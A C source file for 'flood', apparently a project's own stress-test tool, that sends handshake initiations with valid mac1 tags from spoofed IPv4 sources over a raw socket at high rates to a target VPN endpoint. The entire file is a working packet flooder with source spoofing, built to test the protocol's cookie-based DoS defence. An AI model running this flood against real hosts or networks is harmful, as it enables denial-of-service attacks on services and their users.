/* SPDX-License-Identifier: MIT
 *
 * flood INTERFACE DST-MAC DST-IP DST-PORT PUBLIC-KEY [RATE [SECONDS [SOURCES]]]
 *
 * An attacker who knows the public key: handshake initiations with a valid mac1 and nothing else
 * valid, from spoofed IPv4 sources, put on the link whole. PUBLIC-KEY is base64. By default
 * 100,000 a second for 5 seconds from 1,000 sources. It ends by itself and prints what it reached:
 *
 *   sent=N seconds=S rate=N
 *
 * One frame per source is made ready with its own random bytes and mac1; they are then sent in
 * turn, with sendmmsg, each batch when its time has come.
 */
#include "crypto/cookie.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, SOURCES_MAX = 60000, IP_OFFSET = 14, UDP_OFFSET = 34, DATA_OFFSET = 42 };
enum { FRAME_BYTES = DATA_OFFSET + INITIATION_BYTES };
enum { FIRST_SOURCE = 0x0a640001 }; /* 10.100.0.1 and on */

struct target {
    uint8_t mac[6];
    uint32_t ip; /* network order */
    uint16_t port;
    struct cookie_key key;
};

static void die(const char *what)
{
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void put16(uint8_t *at, unsigned value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

static unsigned ip_checksum(const uint8_t *header)
{
    uint32_t sum = 0;
    for (int i = 0; i < 20; i += 2)
        sum += (uint32_t)header[i] << 8 | header[i + 1];
    sum = (sum & 0xffff) + (sum >> 16);
    return ~(sum + (sum >> 16)) & 0xffff;
}

static void make_datagram(uint8_t *data, const struct target *to)
{
    struct cookie_jar jar = {0};

    randombytes_buf(data, INITIATION_BYTES);
    data[0] = WIRE_INITIATION;
    data[1] = WIRE_PART_WHOLE;
    put16(data + 2, 0);
    cookie_add_macs(&jar, &to->key, data, INITIATION_BYTES, 0);
}

static void make_frame(uint8_t *frame, const struct target *to, uint32_t number)
{
    uint8_t *ip = frame + IP_OFFSET, *udp = frame + UDP_OFFSET;
    uint32_t source = htonl(FIRST_SOURCE + number);

    memset(frame, 0, DATA_OFFSET);
    memcpy(frame, to->mac, 6);
    frame[6] = 2;
    put16(frame + 12, ETHERTYPE_IP);
    ip[0] = 0x45;
    put16(ip + 2, FRAME_BYTES - IP_OFFSET);
    put16(ip + 6, 0x4000);
    ip[8] = 64;
    ip[9] = IPPROTO_UDP;
    memcpy(ip + 12, &source, 4);
    memcpy(ip + 16, &to->ip, 4);
    put16(ip + 10, ip_checksum(ip));
    put16(udp, 1024 + number % 60000);
    put16(udp + 2, to->port);
    put16(udp + 4, FRAME_BYTES - UDP_OFFSET);
    make_datagram(frame + DATA_OFFSET, to);
}

static void parse_target(struct target *to, char **argv)
{
    uint8_t public_key[PUBLIC_KEY_BYTES];
    const struct ether_addr *mac = ether_aton(argv[0]);
    size_t bytes;

    if (!mac || inet_pton(AF_INET, argv[1], &to->ip) != 1 ||
        sodium_base642bin(public_key, sizeof public_key, argv[3], strlen(argv[3]), NULL, &bytes,
                          NULL, sodium_base64_VARIANT_ORIGINAL) ||
        bytes != sizeof public_key) {
        fputs("flood: bad MAC, address or key\n", stderr);
        exit(2);
    }
    memcpy(to->mac, mac, sizeof to->mac);
    to->port = (uint16_t)strtoul(argv[2], NULL, 10);
    cookie_key_derive(&to->key, public_key);
}

static int open_link(const char *name)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = 0};
    int fd = socket(AF_PACKET, SOCK_RAW, 0);

    at.sll_ifindex = (int)if_nametoindex(name);
    if (fd < 0 || !at.sll_ifindex || bind(fd, (struct sockaddr *)&at, sizeof at))
        die(name);
    return fd;
}

/* A full queue is waited for; what the link refuses for other reasons ends the program. */
static unsigned send_batch(int fd, uint8_t (*frames)[FRAME_BYTES], unsigned long first,
                           unsigned long sources)
{
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];

    for (unsigned i = 0; i < BATCH; i++) {
        parts[i] = (struct iovec){frames[(first + i) % sources], FRAME_BYTES};
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    int sent = sendmmsg(fd, messages, BATCH, 0);
    if (sent < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
        die("send");
    return sent < 0 ? 0 : (unsigned)sent;
}

static void flood(int fd, uint8_t (*frames)[FRAME_BYTES], unsigned long sources, double rate,
                  double seconds)
{
    const double start = now_s();
    double passed = 0;
    unsigned long sent = 0;

    while (passed < seconds) {
        if ((double)sent < rate * passed)
            sent += send_batch(fd, frames, sent, sources);
        else
            nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL);
        passed = now_s() - start;
    }
    printf("sent=%lu seconds=%.2f rate=%.0f\n", sent, passed, (double)sent / passed);
}

int main(int argc, char **argv)
{
    struct target to;

    if (argc < 6 || sodium_init() < 0) {
        fputs("usage: flood INTERFACE DST-MAC DST-IP DST-PORT PUBLIC-KEY [RATE [SECONDS "
              "[SOURCES]]]\n",
              stderr);
        return 2;
    }
    double rate = argc > 6 ? strtod(argv[6], NULL) : 100000;
    double seconds = argc > 7 ? strtod(argv[7], NULL) : 5;
    unsigned long sources = argc > 8 ? strtoul(argv[8], NULL, 10) : 1000;
    if (sources < 1 || sources > SOURCES_MAX)
        return 2;
    parse_target(&to, argv + 2);
    uint8_t(*frames)[FRAME_BYTES] = calloc(sources, sizeof *frames);
    if (!frames)
        die("calloc");
    for (unsigned long i = 0; i < sources; i++)
        make_frame(frames[i], &to, (uint32_t)i);
    flood(open_link(argv[1]), frames, sources, rate, seconds);
    free(frames);
    return 0;
}
